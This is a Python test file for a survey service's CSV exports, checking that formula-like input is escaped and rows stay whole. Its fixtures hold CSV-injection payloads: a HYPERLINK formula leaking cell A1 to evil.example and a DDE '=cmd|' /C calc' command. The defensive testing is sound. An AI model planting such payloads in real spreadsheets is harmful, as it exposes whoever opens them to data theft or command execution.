"""Every CSV Peil writes for people keeps formulas out and rows whole (ASVS 1.2.10).

Unit names and keys, attribute values, a wave's name and free-text answers that a spreadsheet would run as a
formula (or that hold line breaks) go in through the API and the form; every CSV comes back out: the
participants answer, participation (open and closed), results with cuts, the heatmap, flags, comments and a
trend. Each is parsed as CSV: every row has the header's width, there are as many rows as the JSON has, no
cell starts with a formula character unless it is a number (Peil's own figures), and the nasty values are
there, escaped.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from service.spreadsheets import FORMULA_STARTS, cell, csv_text
from tests.factories import close_wave, create_wave, make_key, open_wave
from tests.forms.answers import all_answers, as_fields
from tests.mail import mail_links

CSV = {"accept": "text/csv"}
EVIL_ORG = '=HYPERLINK("http://evil.example/?x="&A1,"Organisation")'
UNITS = [
    {"key": "org", "name": EVIL_ORG},
    {"key": "+div", "name": "+31 20 123 4567", "parent_key": "org"},
    {"key": "-dep", "name": "-12", "parent_key": "+div"},
    {"key": "@team", "name": "@SUM(A1:A9)", "parent_key": "-dep"},
    {"key": "team=", "name": "Team\rwith a carriage return", "parent_key": "-dep"},
    {"key": "team-lf", "name": "Team\r\nover two lines", "parent_key": "-dep"},
]
TENURE = ["=1+1", "-12", "@me"]
LOCATION = ["+31", "A\rB", 'C\n"D"']
COMMENTS = ['=HYPERLINK("http://evil.example")\nsecond line', "-minus first", "@at first", "+plus first"]
PER_TEAM = 12


def _read(text: str, rows_expected: int | None = None) -> list[dict[str, str]]:
    """Parse ``text`` strictly and check the rules every CSV must keep."""
    table = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    header, rows = table[0], table[1:]
    assert all(len(row) == len(header) for row in rows), "a value broke a row"
    for row in rows:
        for value in row:
            if value.startswith(FORMULA_STARTS):
                float(value)  # only a figure may start like a formula: raises for text
            assert "\r" not in value
    if rows_expected is not None:
        assert len(rows) == rows_expected
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.fixture
def nasty(app: FastAPI, client: TestClient) -> dict[str, Any]:
    """An org with formula-like names, a wave with formula-like attribute values and comments, answered."""
    hr, dashboard = make_key(app, "hr"), make_key(app, "dashboard")
    assert client.put("/api/v1/units", json={"units": UNITS}, headers=hr).status_code == 200
    wave = create_wave(client, hr, name="=cmd|' /C calc'!A0", min_group_size=3)
    people = [
        {
            "unit_key": team,
            "email": f"p{t}-{i}@example.com",
            "attributes": {"tenure_band": TENURE[i % 3], "location": LOCATION[i % 3]},
        }
        for t, team in enumerate(("@team", "team=", "team-lf"))
        for i in range(PER_TEAM)
    ]
    uploaded = client.post(
        f"/api/v1/waves/{wave['id']}/participants", json={"participants": people}, headers={**hr, **CSV}
    )
    assert uploaded.status_code == 201, uploaded.text
    counts = _read(uploaded.text, 3)
    assert [(r["unit_key"], r["created"]) for r in counts][:1] == [("'@team", str(PER_TEAM))]
    open_wave(client, hr, wave["id"])
    tokens = mail_links(app, [person["email"] for person in people])
    instrument = app.state.instruments[("career-safety", 1)].instrument
    text_items = [item.id for item in instrument.items if item.type == "text"]
    for n, token in enumerate(tokens):
        answers = all_answers(instrument, n)
        answers.update({item: COMMENTS[n % len(COMMENTS)] for item in text_items})
        assert client.post(f"/s/{token}", data=as_fields(answers)).status_code == 200
    return {"id": wave["id"], "hr": hr, "dashboard": dashboard}


def test_every_csv_is_safe_to_open(app: FastAPI, client: TestClient, nasty: dict[str, Any]) -> None:
    hr, url = nasty["hr"], f"/api/v1/waves/{nasty['id']}"
    open_rows = _read(client.get(f"{url}/participation", headers={**hr, **CSV}).text, len(UNITS))
    assert open_rows[0]["name"] == "'" + EVIL_ORG and open_rows[2]["name"] == "'-12"
    close_wave(client, app, hr, nasty["id"])

    closed = client.get(f"{url}/participation", headers={**hr, **CSV}).text
    names = {r["unit"]: r["name"] for r in _read(closed, len(UNITS))}
    assert names == {
        "org": "'" + EVIL_ORG,
        "'+div": "'+31 20 123 4567",
        "'-dep": "'-12",
        "'@team": "'@SUM(A1:A9)",
        "team=": "Team\nwith a carriage return",
        "team-lf": "Team\nover two lines",
    }
    for unit in ("org", "-dep", "@team"):
        for by in ("tenure_band", "location"):
            params = {"unit": unit, "by": by}
            as_json = client.get(f"{url}/results", params=params, headers=hr).json()
            cells = sum(1 + len(u["cuts"]) for u in as_json["units"])
            rows = _read(client.get(f"{url}/results", params=params, headers={**hr, **CSV}).text, cells)
            values = {r["value"] for r in rows if r["attribute"] == by}
            assert values == ({"'=1+1", "'-12", "'@me"} if by == "tenure_band" else {"'+31", "A\nB", 'C\n"D"'})
    heatmap = client.get(f"{url}/heatmap", headers=hr).json()
    _read(client.get(f"{url}/heatmap", headers={**hr, **CSV}).text, sum(len(u["constructs"]) for u in heatmap["units"]))
    flags = client.get(f"{url}/flags", headers=hr).json()["flags"]
    _read(client.get(f"{url}/flags", headers={**hr, **CSV}).text, len(flags))
    comments = _read(client.get(f"{url}/comments", params={"unit": "-dep"}, headers={**hr, **CSV}).text)
    texts = {r["text"] for r in comments}
    assert {"'" + COMMENTS[0], "'-minus first", "'@at first", "'+plus first"} <= texts
    trend = _read(
        client.get("/api/v1/units/-dep/trend", params={"construct": "psych_safety"}, headers={**hr, **CSV}).text, 1
    )
    assert trend[0]["unit"] == "'-dep" and trend[0]["wave"] == "'=cmd|' /C calc'!A0"


def test_figures_stay_figures_and_text_stays_text() -> None:
    assert [cell(v) for v in (-12, -0.3125, 0, True, None)] == ["-12", "-0.3125", "0", "true", ""]
    escaped = [cell(v) for v in ("-12", "=1+1", "+1", "@x", "\tx", "\rx", "\r\nx", "plain")]
    assert escaped == ["'-12", "'=1+1", "'+1", "'@x", "'\tx", "'\nx", "'\nx", "plain"]
    assert cell("a\r\nb\rc") == "a\nb\nc"
    text = csv_text(["unit", "value"], [["a\rb", -1.5], ["=x", "c"]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["unit", "value"], ["a\nb", "-1.5"], ["'=x", "c"]]
